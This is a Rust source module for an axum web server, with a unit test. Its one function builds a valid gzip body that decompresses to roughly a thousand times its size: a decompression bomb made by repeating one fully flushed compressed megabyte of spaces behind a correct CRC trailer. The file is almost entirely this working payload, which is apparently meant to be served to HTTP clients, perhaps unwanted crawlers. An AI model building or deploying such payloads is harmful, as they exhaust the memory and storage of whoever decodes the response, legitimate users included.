//! A compressed body that unfolds to a thousand times its size (RFC 1951, RFC 1952).

use axum::body::{Body, Bytes};
use flate2::{Compress, Compression, Crc, FlushCompress};

use super::body;

/// Bytes that one block unfolds to.
const BLOCK: usize = 1024 * 1024;
/// Magic number, deflate, no flags, no time, no hints, unknown system.
const HEAD: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
/// An empty last block of fixed codes.
const LAST: [u8; 2] = [3, 0];

/// Spaces: so many bytes of them, rounded up to whole blocks.
///
/// A block that is flushed in full refers to none before it, so the same one can be sent again and
/// again: nothing large is ever compressed.
pub(super) fn bomb(bytes: u64) -> Option<Body> {
    let times = bytes.div_ceil(BLOCK as u64).max(1);
    let plain = vec![b' '; BLOCK];
    let mut block = Vec::with_capacity(BLOCK / 64);
    Compress::new(Compression::best(), false).compress_vec(&plain, &mut block, FlushCompress::Full).ok()?;
    let (mut one, mut crc) = (Crc::new(), Crc::new());
    one.update(&plain);
    (0..times).for_each(|_| crc.combine(&one));
    let tail = [&LAST[..], &crc.sum().to_le_bytes(), &crc.amount().to_le_bytes()].concat();
    Some(body::repeated(Bytes::from_static(&HEAD), block.into(), times, tail.into()))
}

#[cfg(test)]
mod tests {
    use std::io::Read as _;

    use super::*;

    #[tokio::test]
    async fn it_is_sound_gzip_and_unfolds_a_hundredfold_and_more() {
        let small = axum::body::to_bytes(bomb(5_000_000).unwrap(), usize::MAX).await.unwrap();
        let mut large = Vec::new();
        flate2::read::GzDecoder::new(&small[..]).read_to_end(&mut large).unwrap();
        assert_eq!(large.len(), 5 * BLOCK);
        assert!(large.iter().all(|byte| *byte == b' '));
        assert!(small.len() * 100 < large.len(), "{}", small.len());
    }
}
